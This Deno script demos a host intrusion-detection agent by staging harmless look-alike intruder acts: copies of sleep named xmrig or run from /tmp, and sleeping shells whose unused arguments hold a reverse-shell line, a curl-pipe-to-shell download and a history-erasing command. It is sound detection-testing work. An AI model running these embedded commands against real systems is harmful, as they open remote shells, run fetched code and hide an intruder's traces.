/**
 * `deno task demo`: harmless acts that look like an intruder's, to see the alerts that they raise.
 *
 * Nothing bad is done: programs are copies of `sleep`, command lines are arguments that nobody executes, addresses are of
 * the block that documentation is given (RFC 5737). Each lasts two seconds, so that polling sees it too. What is made is
 * removed.
 *
 * @module
 */
import { parseArgs } from "node:util";
import { stateLayout } from "../proto/state_layout.ts";
import { STALE_AFTER_MS } from "../proto/status.ts";
import { decodeAgentStatus } from "../proto/status_codec.ts";
import { stateDirectory } from "./launch.ts";

const SECONDS = "2.5";

interface Act {
  readonly says: string;
  /** The rule that must find it. */
  readonly rule: string;
  readonly run: (directory: string) => Promise<void>;
}

/** A shell that only sleeps, with `words` as arguments that it never looks at. */
function shellWith(words: string): () => Promise<void> {
  return () => execute("/bin/sh", "-c", `sleep ${SECONDS}; exit 0`, "daemoneye-demo", words);
}

export const ACTS: readonly Act[] = [
  {
    says: "a program runs directly from /tmp (a copy of sleep)",
    rule: "execution-from-odd-directory",
    run: (directory) => runCopy(`${directory}-implant`),
  },
  {
    says: "a program is called xmrig (a copy of sleep)",
    rule: "crypto-miner",
    run: (directory) => runCopy(`${directory}/xmrig`),
  },
  {
    says: "a shell has the words of a reverse shell among its arguments",
    rule: "reverse-shell-dev-tcp",
    run: shellWith("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
  },
  {
    says: "a shell has the words of a download that is executed among its arguments",
    rule: "download-and-run",
    run: shellWith("curl -s http://192.0.2.1/install | sh"),
  },
  {
    says: "a shell has the words that switch off its history among its arguments",
    rule: "traces-removed",
    run: shellWith("unset HISTFILE"),
  },
];

async function runCopy(path: string): Promise<void> {
  await Deno.copyFile("/bin/sleep", path);
  try {
    await execute(path, SECONDS);
  } finally {
    await Deno.remove(path);
  }
}

async function execute(program: string, ...args: string[]): Promise<void> {
  await new Deno.Command(program, { args, cwd: "/", stdin: "null", stdout: "null", stderr: "null" }).output();
}

function agentRuns(state: string): boolean {
  try {
    const status = decodeAgentStatus(Deno.readFileSync(stateLayout(state).agentStatus));
    return Math.abs(Date.now() - status.time) <= STALE_AFTER_MS && status.state === "running";
  } catch {
    return false;
  }
}

async function main(): Promise<void> {
  const { values } = parseArgs({ options: { state: { type: "string" } } });
  const state = stateDirectory(values.state);
  if (!agentRuns(state)) {
    console.log(
      `No agent runs on ${state} (or you may not read its status): without one nothing will be found. ` +
        `Run 'deno task start' in another terminal first.\n`,
    );
  }
  const directory = await Deno.makeTempDir({ dir: "/tmp", prefix: "daemoneye-demo-" });
  try {
    await Promise.all(ACTS.map(({ says, rule, run }, index) => {
      console.log(`${index + 1}. ${says}\n   expect: ${rule}`);
      return run(directory);
    }));
  } finally {
    await Deno.remove(directory, { recursive: true });
  }
  console.log(
    `\nDone; everything is removed again. The alerts stand where 'deno task start' runs, in ${
      stateLayout(state).alertFile
    }, ` +
      `and in 'deno task cli alerts'.`,
  );
}

if (import.meta.main) await main();
